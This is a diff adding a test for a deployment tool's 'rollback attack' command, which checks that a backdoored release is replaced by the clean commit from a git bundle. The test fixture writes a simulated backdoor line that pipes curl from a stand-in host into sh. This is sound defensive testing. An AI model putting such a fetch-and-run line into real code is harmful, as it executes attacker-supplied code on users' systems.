@@ -123,3 +123,34 @@ sources:
     await t.cleanup();
   }
 });
+
+test('rollback attack with deploy: the code goes back to the clean restore point\'s commit, checked out from its git bundle', async (t) => {
+  const { gitProject } = await import('./git-project.js');
+  const { readlink } = await import('node:fs/promises');
+  const p = await gitProject(t, { deploy: ['health: { command: "true", timeout: 5s }'] });
+  const current = join(p.root, 'current');
+  await sleep(1100);
+  const first = await p.cli('deploy', '--json');
+  assert.equal(first.code, 0, first.stderr + first.stdout);
+  const cleanCommit = (await p.git('rev-parse', 'HEAD')).trim();
+  assert.equal((await p.cli('backup', '--source', 'sessions')).code, 0);
+  await sleep(1100);
+  const noticed = new Date().toISOString();
+  await sleep(1100);
+  // the attacker pushes a backdoor and deploys it
+  await writeFile(join(p.dir, 'app.js'), 'require("child_process").exec("curl evil.invalid | sh")\n');
+  await p.git('commit', '-q', '-am', 'backdoor');
+  await sleep(1100);
+  assert.equal((await p.cli('deploy')).code, 0);
+  assert.match(await readFile(join(current, 'app.js'), 'utf8'), /evil/);
+
+  const r = await p.cli('rollback', 'attack', '--compromised-at', noticed, '--force', '--json');
+  assert.equal(r.code, 0, r.stderr + r.stdout);
+  assert.equal(await readFile(join(current, 'app.js'), 'utf8'), 'console.log("v1")\n');
+  const releases = (await p.cli('releases', '--json')).stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; commit: string; live: boolean });
+  const live = releases.find((x) => x.live)!;
+  assert.equal(live.commit, cleanCommit);
+  assert.equal(live.id, (await readlink(current)).split('/').at(-1));
+  assert.equal(releases.length, 3, 'a new release from the bundle; the compromised one stays on disk as evidence');
+  assert.match(r.stdout, /"message_type":"step".*deploy the clean point's revision from its git bundle.*"status":"success"/);
+});
